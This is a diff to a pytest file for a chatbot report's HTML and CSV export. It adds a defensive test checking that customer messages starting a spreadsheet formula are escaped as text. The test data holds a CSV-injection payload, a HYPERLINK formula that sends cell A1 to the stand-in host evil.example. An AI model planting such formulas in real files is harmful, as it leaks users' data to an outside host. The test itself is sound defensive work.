@@ -110,8 +110,20 @@ def test_html_escapes_and_csv_holds_every_figure(seeded):
     assert "&lt;script&gt;" in page and "<script>" not in page and "jan@voorbeeld.nl" not in page
     assert "Waar is mijn pakket +100 % t.o.v. vorige week" in page and "<svg" in page
     table = list(csv.reader(io.StringIO(to_csv(r))))
-    assert table[0] == ["metric", "key", "value"] and [tuple(row) for row in table[1:]] == rows(r)
+    assert table[0] == ["metric", "key", "value"] and [tuple(row) for row in table[1:]] == rows(r)  # no formula here
     assert ["containment", "share", "0.750"] in table and ["callbacks", "on_time", "1"] in table
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_customer_message_that_starts_a_formula_is_text_in_the_csv(seeded, start):
+    r = report_for(seeded)
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klik hier")'
+    r.misunderstood = [{"text": formula, "count": 2}, {"text": "gewoon een vraag", "count": 1}]
+    text = to_csv(r)
+    table = list(csv.reader(io.StringIO(text)))
+    assert ["misunderstood", "'" + formula, "2"] in table  # the spreadsheet shows it, it does not run it
+    assert ["misunderstood", "gewoon een vraag", "1"] in table
+    assert f'"misunderstood","\'{start}HYPERLINK(""https' in text  # quoted, its quotes doubled
 
 
 def test_a_wrong_period_is_refused_with_a_clear_message():
